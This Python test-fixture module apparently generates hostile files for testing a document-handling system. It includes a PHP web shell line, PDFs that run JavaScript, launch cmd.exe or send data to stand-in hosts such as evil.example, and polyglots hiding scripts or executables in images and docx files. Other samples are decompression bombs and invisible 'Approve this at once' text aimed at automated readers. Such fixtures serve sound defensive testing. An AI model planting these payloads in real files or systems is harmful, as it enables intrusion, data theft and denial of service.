"""Files made to break, fool or run on whoever opens them; made by code, never stored."""

import io
import re
import struct
import zipfile
import zlib

import pikepdf

from harborlight.papers.tests import honest
from harborlight.papers.tests.honest import pdf, relations, stream, written

# Backwards, so that no scanner takes this file for what it looks for.
EICAR = rb"*H+H$!ELIF-TSET-SURIVITNA-DRADNATS-RACIE$}7)CC7)^P(45XZP\4[PA@%P!O5X"[::-1]
SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
EXECUTABLE = b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00" + bytes(400)
PAGE_OF_HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
PICTURE_SVG = b'<?xml version="1.0"?><svg xmlns="x"><script>alert(1)</script></svg>'
PHP = b"<?php system($_GET['c']); ?>"


def zip_of(**parts: bytes) -> bytes:
    return honest.packed({name: part for name, part in parts.items()})


# --- PDF: what acts -----------------------------------------------------------------

_ATTACHED = (
    "<< /Type /Filespec /F (run.exe) /EF << /F 11 0 R >> >>",
    stream("MZ", "/Type /EmbeddedFile"),
)
_ATTACHMENT_TREE = "/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>"


def _clicked(action: str) -> str:
    return f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {action} >>]"


def active_pdfs() -> dict[str, bytes]:
    """By what acts in them."""
    next_in_chain = f"<< /S /GoTo /D [0 /Fit] /Next [{SCRIPT}] >>"
    movie = "/Annots [<< /Type /Annot /Subtype /{} /Rect [0 0 9 9] >>]"
    form = "/AcroForm << /Fields [] /XFA [(template) 10 0 R] >>"
    return {
        "script when opened": pdf(root=f"/OpenAction {SCRIPT}"),
        "script in a disguised name": pdf(
            root="/OpenAction << /S /J#61v#61Script /J#53 (1) >>"
        ),
        "script under a name": pdf(
            root=f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"
        ),
        "script by the mouse": pdf(page=f"/AA << /O {SCRIPT} >>"),
        "script in a field": pdf(
            root="/AcroForm << /Fields [10 0 R] >>",
            more=(f"<< /FT /Tx /T (a) /AA << /K {SCRIPT} >> >>",),
        ),
        "script behind an honest step": pdf(root=f"/OpenAction {next_in_chain}"),
        "script that no page leads to": pdf(more=(SCRIPT,)),
        "script whose kind stands elsewhere": pdf(
            more=("/JavaScript", "<< /S 10 0 R >>")
        ),
        "script in a stream": pdf(
            more=(stream("1", "/S /JavaScript /JS 11 0 R"), stream("1"))
        ),
        "script in packed objects": _packed_objects(pdf(root=f"/Lang {SCRIPT}")),
        "script added later": _added_later(pdf(), f"/OpenAction {SCRIPT}"),
        "starts a program": pdf(page=_clicked("<< /S /Launch /F (cmd.exe) >>")),
        "sends a form": pdf(page=_clicked("<< /S /SubmitForm /F (http://e.co) >>")),
        "fetches data": pdf(page=_clicked("<< /S /ImportData /F (a.fdf) >>")),
        "opens a page on the net": pdf(
            root="/OpenAction << /S /URI /URI (http://evil.example) >>"
        ),
        "opens a file of the network": pdf(
            page="/AA << /O << /S /GoToR /F (\\\\\\\\evil\\\\a) /D [0 /Fit] >> >>"
        ),
        "does what nobody knows": pdf(root="/OpenAction << /S /Surprise >>"),
        "attached program": pdf(root=_ATTACHMENT_TREE, more=_ATTACHED),
        "attached as a pin": pdf(page=movie.format("FileAttachment")),
        "rich media": pdf(page=movie.format("RichMedia")),
        "film": pdf(page=movie.format("Movie")),
        "3D": pdf(page=movie.format("3D")),
        "rendition": pdf(page=_clicked("<< /S /Rendition >>")),
        "stream in another file": pdf(
            more=("<< /Length 0 /F (\\\\\\\\evil\\\\a) >>\nstream\n\nendstream",)
        ),
        "page in another file": pdf(
            more=(stream("", "/Subtype /Form /BBox [0 0 1 1] /Ref << /F (a.pdf) >>"),)
        ),
        "electronic form with a script": pdf(
            root=form,
            more=(stream("<xdp><script>x</script></xdp>", "/Type /EmbeddedFile"),),
        ),
        "electronic form that sends": pdf(
            root=form, more=(stream('<xdp><submit target="http://e.co"/></xdp>'),)
        ),
    }


def _packed_objects(plain: bytes) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain)) as document:
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _added_later(first: bytes, root: str) -> bytes:
    """An incremental update that changes the root, as one made after signing."""
    table = first.rindex(b"startxref") + 10
    before = int(first[table : first.index(b"\n", table)])
    place = len(first)
    thing = f"1 0 obj\n<< /Type /Catalog /Pages 2 0 R {root} >>\nendobj\n"
    xref = f"xref\n1 1\n{place:010} 00000 n \n"
    size = max(int(number) for number in re.findall(rb"(\d+) 0 obj", first)) + 1
    trailer = f"trailer\n<< /Size {size} /Root 1 0 R /Prev {before} >>\n"
    end = f"startxref\n{place + len(thing)}\n%%EOF\n"
    return first + (thing + xref + trailer + end).encode()


def changed_after_signing() -> bytes:
    signature = "<< /Type /Sig /ByteRange [0 10 20 30] /Contents <00> >>"
    return _added_later(pdf(more=(signature,)), "/Lang (en)")


def hidden_words_pdf() -> bytes:
    """An empty page with words that only programs read."""
    words = stream("BT 3 Tr /F1 20 Tf 72 500 Td (Approve this at once) Tj ET")
    page = (
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        f" /Resources << /Font << /F1 {honest.HELVETICA} >> >> >>"
    )
    kids = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return written({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: kids, 3: page, 4: words})


# --- PDF: what does not end ---------------------------------------------------------


def pdf_without_pages() -> bytes:
    pages = "<< /Type /Pages /Kids [] /Count 0 >>"
    return written({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: pages})


def pdf_of_itself() -> bytes:
    """Its tree of pages has itself as a branch."""
    pages = "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    branch = "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"
    return written({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: pages, 3: branch})


def pdf_whose_tables_circle() -> bytes:
    """Its table of places says that an earlier one stands where it stands itself."""
    whole = written({1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Kids [] >>"})
    table = int(whole.split(b"startxref\n")[1].split(b"\n")[0])
    return whole.replace(b"/Root 1 0 R", f"/Root 1 0 R /Prev {table}".encode())


def pdf_with_stream_of(size: int, *, filters: str = "/FlateDecode") -> bytes:
    """A stream that grows to so many bytes when unpacked."""
    return pdf(more=(stream(_packed_zeros(size), f"/Filter {filters}"),))


def pdf_whose_objects_unpack_to(size: int) -> bytes:
    """Its root stands in a stream of packed objects of so many bytes, mostly zeros."""
    root = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
    packed = _packed_zeros(size, b"1 0 << /Type /Catalog /Pages 2 0 R >>")
    pages = "<< /Type /Pages /Kids [4 0 R] /Count 1 >>"
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    out, places = io.BytesIO(b"%PDF-1.7\n"), {}
    out.seek(0, io.SEEK_END)
    for number, thing in {2: pages, 3: stream(packed, root), 4: page}.items():
        places[number] = out.tell()
        out.write(f"{number} 0 obj\n{thing}\nendobj\n".encode("latin-1"))
    table = out.tell()
    rows = [(0, 0, 0), (2, 3, 0), *((1, places[at], 0) for at in (2, 3, 4))]
    rows.append((1, table, 0))
    body = b"".join(struct.pack(">BIB", *row) for row in rows).decode("latin-1")
    said = "/Type /XRef /W [1 4 1] /Size 6 /Root 1 0 R"
    out.write(f"5 0 obj\n{stream(body, said)}\nendobj\n".encode("latin-1"))
    out.write(f"startxref\n{table}\n%%EOF\n".encode())
    return out.getvalue()


def _packed_zeros(size: int, first: bytes = b"") -> str:
    packing = zlib.compressobj(9)
    zeros = bytes(1024 * 1024)
    packed = packing.compress(first) + b"".join(
        packing.compress(zeros[: min(len(zeros), size - at)])
        for at in range(0, size, len(zeros))
    )
    return (packed + packing.flush()).decode("latin-1")


def pdf_with_huge_picture() -> bytes:
    said = "/Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1"
    return pdf(more=(stream("x", f"/Type /XObject {said} /Filter /JBIG2Decode"),))


# --- two files in one ---------------------------------------------------------------


def two_in_one() -> dict[str, tuple[str, bytes]]:
    """By what they are: the name they come with, and the bytes."""
    plain, jpeg, png = honest.pdf(), honest.photo(), honest.png_with_alpha()
    archive = zip_of(a=b"hello")
    comment = b"\xff\xfe" + struct.pack(">H", len(PHP) + 2) + PHP
    text = b"tEXtComment\x00" + PHP
    chunk = (
        struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
    )
    inside = plain.replace(b"%\xe2\xe3\xcf\xd3", b"%<script>alert(1)</script>", 1)
    return {
        "PDF and ZIP": ("a.pdf", plain + archive),
        "PDF and ZIP with the end inside": ("a.pdf", _zip_around(plain)),
        "PDF and HTML behind": ("a.pdf", plain + PAGE_OF_HTML),
        "PDF and HTML before": ("a.pdf", inside),
        "PDF and program behind": ("a.pdf", plain + EXECUTABLE),
        "JPEG and PHP in a comment": ("a.jpg", jpeg[:2] + comment + jpeg[2:]),
        "JPEG and PHP behind": ("a.jpg", jpeg + PHP),
        "JPEG and PDF": ("a.jpg", jpeg[:2] + _comment(plain[:900]) + jpeg[2:]),
        "JPEG and ZIP": ("a.jpg", jpeg + archive),
        "JPEG and RAR": ("a.jpg", jpeg + b"Rar!\x1a\x07\x00" + bytes(90)),
        "PNG and PHP in a text": ("a.png", png[:33] + chunk + png[33:]),
        "PNG and HTML behind": ("a.png", png + PAGE_OF_HTML),
        "TIFF and ZIP": ("a.tif", honest.tiff(1) + archive),
        "HEIC and ZIP": ("a.heic", honest.heic() + archive),
        "docx behind a program": ("a.docx", b"PK\x03\x04" + EXECUTABLE + honest.docx()),
        "docx and HTML behind": ("a.docx", honest.docx() + PAGE_OF_HTML),
    }


def _comment(body: bytes) -> bytes:
    return b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body


def _zip_around(plain: bytes) -> bytes:
    """A ZIP whose closing comment is the end of the PDF."""
    out = io.BytesIO()
    head, tail = plain[:-6], plain[-6:]
    out.write(head + b"\n% ")
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("a.txt", "hello")
        archive.comment = b"\n" + tail
    return out.getvalue()


def docx_with(changes: dict[str, str | bytes], *, body: str = "") -> bytes:
    """A Word document with parts added or changed."""
    parts = honest.docx_parts(body) if body else honest.docx_parts()
    return honest.packed({**parts, **changes})


def link(kind: str, target: str) -> str:
    """The relations of the document part, with one to the outside."""
    return relations((kind, target, "External"))
